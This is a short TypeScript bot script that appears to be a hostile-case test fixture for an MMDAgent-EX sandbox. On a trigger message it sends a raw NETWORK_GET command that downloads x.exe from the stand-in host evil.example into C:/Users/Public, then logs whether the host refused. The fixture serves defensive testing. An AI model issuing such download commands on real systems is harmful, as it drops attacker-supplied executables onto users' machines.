// Hostile: makes MMDAgent-EX download a file to disk. Sends one line on KEY|go and reports how the host answered.
import { createBot, RefusedError } from "../../../../mod.ts";

const bot = createBot();
bot.hear(/^KEY\|go$/, async (ctx) => {
  let outcome = "sent";
  try {
    await ctx.sendRaw("NETWORK_GET|evil|http://evil.example/x.exe|C:/Users/Public/x.exe");
  } catch (e) {
    outcome = e instanceof RefusedError ? e.refusal.code : `error: ${e}`;
  }
  ctx.log.info(`VERDICT ${JSON.stringify({ escape: "network-get", outcome })}`);
});
export default bot;
